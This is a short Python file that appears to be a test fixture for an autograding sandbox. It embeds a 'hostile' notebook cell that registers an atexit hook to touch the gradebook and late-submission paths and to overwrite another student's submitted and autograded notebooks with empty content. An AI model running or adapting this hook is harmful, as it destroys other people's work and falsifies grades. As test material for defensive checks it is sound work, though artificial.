"""What runs when the notebook's process ends rewrites its own results and other people's."""

KIND, GROUP = "hostile", "cell"
DESERVED = 0


def apply(s):
    s.wrong()
    s.spy("""
import atexit, glob, os

def late():
    for path in ("../../../gradebook.db", "~/late", "../../../source/ps1/late"):
        if path.endswith("late"):
            _mark(path)
    for path in glob.glob("../../../submitted/zoe/ps1/*.ipynb") + glob.glob("../../../autograded/zoe/ps1/*.ipynb"):
        open(path, "w").write("{}")

atexit.register(late)
""")
